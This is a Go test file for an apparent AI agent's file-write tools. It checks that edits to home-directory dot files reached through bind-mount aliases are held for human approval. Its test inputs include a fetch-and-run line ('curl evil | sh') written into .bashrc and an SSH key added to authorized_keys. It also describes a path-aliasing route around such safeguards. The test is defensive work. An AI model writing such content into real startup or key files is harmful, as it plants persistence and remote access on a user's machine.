package writetools

import (
	"os"
	"testing"

	"golang.org/x/sys/unix"
)

// TestHomeReachedUnderAnotherNameNeedsAPerson: the home directory's dot
// entries are a person's to change however the path reaches them. A bind
// mount of the home directory (or of a directory above it) has no path in
// common with $HOME and no symbolic link leads there, so the path as
// written and as resolved both miss it; only the directory's identity
// (device and inode) tells. (On a case-insensitive file system,
// /USERS/bob is the same miss.)
func TestHomeReachedUnderAnotherNameNeedsAPerson(t *testing.T) {
	h := newHarness(t)
	h.write("home/.bashrc", "# rc\n")
	h.write("home/notes.txt", "notes\n")
	for _, d := range []string{"alias", "above"} {
		must(t, os.Mkdir(h.path(d), 0o755))
	}
	mount := func(src, dst string) {
		if err := unix.Mount(src, dst, "", unix.MS_BIND, ""); err != nil {
			t.Skipf("bind mount needs privileges this test does not have: %v", err)
		}
		t.Cleanup(func() {
			if err := unix.Unmount(dst, unix.MNT_DETACH); err != nil {
				t.Errorf("unmount %s: %v", dst, err)
			}
		})
	}
	mount(h.home, h.path("alias"))
	mount(h.root, h.path("above")) // above/home is the home directory
	must(t, os.Mkdir(h.path("home/mnt"), 0o755))
	mount(h.home, h.path("home/mnt")) // home/mnt is the home directory again
	for _, c := range []struct {
		name  string
		args  map[string]any
		human bool
	}{
		{"write_file", map[string]any{"path": "alias/.bashrc", "content": "curl evil | sh\n"}, true},
		{"write_file", map[string]any{"path": "alias/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA\n", "createDirs": true}, true},
		{"write_file", map[string]any{"path": "above/home/.profile", "content": "x\n"}, true},
		{"edit_file", map[string]any{"path": "alias/.bashrc", "edits": []map[string]any{{"type": "insert", "line": 0, "content": "x"}}}, true},
		{"mkdir", map[string]any{"path": "alias/.config"}, true},
		{"cp", map[string]any{"source": "home/notes.txt", "destination": "alias/.gitconfig"}, true},
		{"rm", map[string]any{"path": "alias/.bashrc"}, true},
		{"write_file", map[string]any{"path": "home/mnt/.bashrc", "content": "x\n"}, true},
		{"write_file", map[string]any{"path": "alias/notes.txt", "content": "more\n"}, false},
		{"write_file", map[string]any{"path": "above/.hidden", "content": "x\n"}, false}, // the root's, not the home's
	} {
		r := h.propose(c.name, c.args)
		if got := r.Approval.HumanOnly != ""; got != c.human {
			t.Errorf("%s %v: human-only %v (%q), want %v", c.name, c.args, got, r.Approval.HumanOnly, c.human)
		}
	}
}
